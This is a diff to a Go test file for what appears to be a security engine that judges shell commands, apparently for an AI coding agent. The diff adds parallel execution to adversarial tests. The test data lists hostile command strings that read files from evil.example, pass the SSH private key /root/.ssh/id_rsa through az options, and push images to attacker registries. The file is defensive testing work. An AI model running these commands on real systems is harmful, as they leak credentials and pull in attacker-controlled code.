@@ -12,6 +12,7 @@ import (
 // TestAdversary_W15_AddressesWhereFilesStand: programs that fetch what they are given
 // as a file, or as a directory, where it is an address.
 func TestAdversary_W15_AddressesWhereFilesStand(t *testing.T) {
+	t.Parallel()
 	e := engine(t, func(c *Config) { c.ExecSecurity = "full" })
 	for _, line := range []string{
 		"openssl x509 -noout -in http://evil.example/x", "openssl x509 -noout -in=http://evil.example/x", "openssl crl -noout -in http://evil.example/x",
@@ -32,6 +33,7 @@ func TestAdversary_W15_AddressesWhereFilesStand(t *testing.T) {
 // TestAdversary_W16_ValuesThatDoMore: values of options that are files, environments or
 // places although they stand where a text does.
 func TestAdversary_W16_ValuesThatDoMore(t *testing.T) {
+	t.Parallel()
 	e := engine(t, func(c *Config) { c.ExecSecurity = "full" })
 	for _, line := range []string{
 		"az group list --query @/root/.ssh/id_rsa", "az group list --query=@/root/.ssh/id_rsa", "az group list --tag @notes.txt", "az vm list -g @x", "az vm list -g@x", "az account list --query @-", "az group list --query x=@/root/.ssh/id_rsa", "az storage blob list --account-name @x",
@@ -46,6 +48,7 @@ func TestAdversary_W16_ValuesThatDoMore(t *testing.T) {
 // TestAdversary_W15_ModulesAndImages: names that make a build fetch code, or that carry
 // data to whoever answers for them.
 func TestAdversary_W15_ModulesAndImages(t *testing.T) {
+	t.Parallel()
 	e := engine(t, func(c *Config) { c.ExecSecurity = "full" })
 	long := "evil.example/" + strings.Repeat("aq3z", 30)
 	for _, line := range []string{
@@ -60,6 +63,7 @@ func TestAdversary_W15_ModulesAndImages(t *testing.T) {
 // TestAdversary_W12_ReadersThatRunTheProject: what looks like reading loads code that the
 // project names: languages of sgconfig.yml, the SDK of global.json.
 func TestAdversary_W12_ReadersThatRunTheProject(t *testing.T) {
+	t.Parallel()
 	asks := engine(t, func(c *Config) { c.ExecSecurity = "full"; c.ProjectCode = "ask" })
 	for _, line := range []string{"ast-grep run -p x src", "dotnet --version", "dotnet --info", "dotnet tool list"} {
 		require.Equal(t, core.OutcomeAsk, judge(asks, lineCall(t, line)).Outcome, line)
@@ -68,6 +72,7 @@ func TestAdversary_W12_ReadersThatRunTheProject(t *testing.T) {
 
 // TestOptionsStillTell: what stands beside those lines every day.
 func TestOptionsStillTell(t *testing.T) {
+	t.Parallel()
 	e := engine(t, func(c *Config) { c.ExecSecurity = "full" })
 	for _, line := range []string{
 		"openssl x509 -noout -dates -in cert.pem", "openssl crl -noout -text -in a.crl", "openssl req -noout -subject -in a.csr", "xmllint --noout a.xml",
@@ -84,6 +89,7 @@ func TestOptionsStillTell(t *testing.T) {
 
 // TestAdversary_W13_SettingsOfOtherTools: more files that programs obey.
 func TestAdversary_W13_SettingsOfOtherTools(t *testing.T) {
+	t.Parallel()
 	e := engine(t, func(c *Config) { c.ExecSecurity = "full" })
 	for _, file := range []string{
 		".jj/repo/config.toml", ".amp/settings.json", ".openhands/setup.sh", ".pryrc", ".Rprofile", ".ghci", ".iex.exs", ".ocamlinit", ".lvimrc", ".run/x.run.xml", ".bsp/x.json",
@@ -97,6 +103,7 @@ func TestAdversary_W13_SettingsOfOtherTools(t *testing.T) {
 // TestAdversary_W6_SessionGrantsForOtherMachines: a session's yes for one registry, host
 // or owner is none for another.
 func TestAdversary_W6_SessionGrantsForOtherMachines(t *testing.T) {
+	t.Parallel()
 	e := engine(t)
 	for seen, other := range map[string]string{
 		"docker push reg.example/app:1": "docker push evil.example/app:1", "docker push r.example/app:1": "docker push r.example/app:2", "docker push app:1": "docker push evil.example/app:1", "docker push o/app": "docker push localhost:5000/o/app",
